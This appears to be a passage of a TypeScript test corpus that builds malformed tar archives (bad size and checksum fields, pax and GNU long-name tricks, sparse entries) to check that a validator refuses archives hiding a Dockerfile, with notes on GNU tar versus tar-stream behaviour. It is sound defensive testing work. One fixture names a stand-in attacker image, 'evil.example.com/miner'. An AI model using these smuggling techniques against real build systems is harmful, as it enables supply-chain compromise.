  // hidden Dockerfile over the real one (exit 2); tar-stream's parseInt read 1024, so notes.txt held it
  withGood('pax size with trailing garbage hiding a Dockerfile', 'TARBALL_PAX_UNSUPPORTED', /"notes\.txt" has the pax record size="1024junk"/, () => [
    pax({ size: `${EVIL.length}junk` }),
    entry({ name: 'notes.txt', size: 0 }),
    EVIL,
  ]),
  // GNU tar: "Archive contains '000000020009' where numeric off_t value expected", skips to the next
  // header and extracts the hidden Dockerfile (exit 2); tar-stream's parseInt stopped at the bad digit
  ...['000000020009', '0000000001x\0', '00000000019\0'].map((field) =>
    withGood(
      `octal size ${JSON.stringify(field.replace('\0', ''))} hiding a Dockerfile`,
      'TARBALL_NOT_TAR',
      /"x\.bin" has a size field ".*" that is not octal digits ended by NUL or space/,
      () => [entry({ name: 'x.bin', sizeField: field }, EVIL)],
    ),
  ),
  // GNU tar: "obsolescent base-64 headers": a size of 951617749834747188, then "Unexpected EOF" (exit
  // 2); tar-stream's parseInt('+0000002000', 8) was 1024
  withGood('size field with a leading +', 'TARBALL_NOT_TAR', /"x\.bin" has a size field "\+0000002000" that is signed/, () => [
    entry({ name: 'x.bin', sizeField: '+0000002000' }, EVIL),
  ]),
  // GNU tar skips one leading NUL ("a buggy tar of unknown vintage"), so two make the size 0 and the
  // hidden Dockerfile the next member; tar-stream skipped both and read 1024
  withGood('size field of two NULs and digits hiding a Dockerfile', 'TARBALL_NOT_TAR', /"x\.bin" has a size field .* that is not octal digits/, () => [
    entry({ name: 'x.bin', sizeField: '\0\u00000000002000' }, EVIL),
  ]),
  // GNU tar: "Archive contains '\300\0…\004' where numeric off_t value expected", skips to the next
  // header (exit 2). tar-stream's parse256 returned null for a first byte 0x81–0xfe, null passed its
  // size >= 0 check, and the entry's stream never ended: the scan HUNG (no chunk arrived to check the
  // deadline), locally and until the Lambda timed out
  ...(
    [
      ['a file', /"x\.bin"/, () => [entry({ name: 'x.bin', sizeField: notBase256(0xc0) }, EVIL)]],
      ['a directory', /"sub\/"/, () => [entry({ name: 'sub/', type: 'dir', sizeField: notBase256(0xc0) }, EVIL)]],
      ['a symlink', /"lnk"/, () => [entry({ name: 'lnk', type: 'symlink', linkname: 'index.html', sizeField: notBase256(0x81) }, EVIL)]],
      ['an empty file', /"empty\.txt"/, () => [entry({ name: 'empty.txt', sizeField: notBase256(0xfe) })]],
    ] as const
  ).map(([what, names, blocks]) =>
    withGood(
      `size field neither octal nor base-256 on ${what} (used to hang)`,
      'TARBALL_NOT_TAR',
      new RegExp(`${names.source} has a size field 0x.* that is neither octal nor base-256`),
      () => [...blocks()],
    ),
  ),
  // GNU tar: reads the checksum field strictly ("012345x " is no number) and skips to the next header,
  // the hidden Dockerfile; tar-stream's parseInt read 012345 and took the header
  withGood('checksum field with a trailing letter hiding a Dockerfile', 'TARBALL_NOT_TAR', /after entry "index\.html" \(its checksum field .* is not octal\)/, () => [
    entry({ name: 'x.bin', checksumField: (sum) => `${sum.toString(8).padStart(6, '0')}x ` }, EVIL),
  ]),
  // tar-stream left an empty pax header "in progress" and read the next entry's padding as its body,
  // five bytes into the header after it: two parsers, two different headers
  withGood('empty pax header misaligning the parser', 'TARBALL_PAX_UNSUPPORTED', /pax header after entry "index\.html" is empty/, () => [
    pax(Buffer.alloc(0)),
    file('a.txt', 'hello'),
    file('b.txt', 'x'),
  ]),
  // found by the GNU tar oracle (test/shared/tarball/oracle.test.ts): GNU tar reads a long name up to
  // a NUL in its whole blocks, tar-stream up to its size; a size of 4 made notes.txt "Dock" to
  // Prepare and the Dockerfile to the build (the last of two wins)
  withGood('GNU long name running past its size to rename an entry to Dockerfile', 'TARBALL_BAD_NAME', /"Dock" has a GNU long name that runs past its size/, () => [
    gnuLong('name', 'Dockerfile', { header: { size: 4 } }),
    file('notes.txt', 'FROM evil.example.com/miner:latest\n', { magic: 'gnu' }),
  ]),
  // GNU tar: lists "sparse.bin" of 1073741824 bytes (the sparse map expands 5 stored bytes to 1 GiB);
  // Prepare refused it as TARBALL_UNEXPECTED_BODY "is a unknown with 5 bytes of body"
  withGood('old GNU sparse file (typeflag S)', 'TARBALL_SPARSE', /"sparse\.bin" is an old GNU sparse file \(typeflag 'S'\)/, () => [
    entry({ name: 'sparse.bin', typeflag: 'S', magic: 'gnu', at: { 386: octal(0, 12), 398: octal(5, 12), 483: octal(1024 ** 3, 12) } }, 'hello'),
  ]),
  withGood('old GNU sparse file (typeflag S) with no stored bytes', 'TARBALL_SPARSE', /"sparse\.bin" is an old GNU sparse file/, () => [
    entry({ name: 'sparse.bin', typeflag: 'S', magic: 'gnu', at: { 483: octal(1024 ** 3, 12) } }),
  ]),
];

/**
 * Archives Prepare accepts, hangs on or refuses under a misleading code although GNU tar reads them
 * otherwise: not in HOSTILE (their test would fail or never end) until the validator covers them.
 * `want` is the refusal a fix should bring; move the case into HOSTILE then. Empty: every gap found
 * so far is in HOSTILE, refused by the framing check or the scan.
 */
export interface KnownGap {
  name: string;
  body: () => Promise<Buffer>;
  /** what `tar -tvzf` / `tar -xzf` make of it (GNU tar 1.34) */
  gnuTar: string;
  /** what Prepare does with it */
  prepare: string;
  want: string;
}

export const KNOWN_GAPS: KnownGap[] = [];

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const out = process.argv[2];
  if (!out) throw new Error('usage: npx tsx test/corpus/hostile.ts OUTDIR');
  await mkdir(out, { recursive: true });
  for (const c of HOSTILE) {
    const file = join(out, `${c.name.replace(/[^a-z0-9]+/gi, '-')}.tar.gz`);
    await writeFile(file, await c.body());
    console.log(`${c.code}\t${file}`);
  }
  for (const gap of KNOWN_GAPS) {
    const file = join(out, `gap-${gap.name.replace(/[^a-z0-9]+/gi, '-')}.tar.gz`);
    await writeFile(file, await gap.body());
    console.log(`gap (${gap.want})\t${file}`);
  }
}
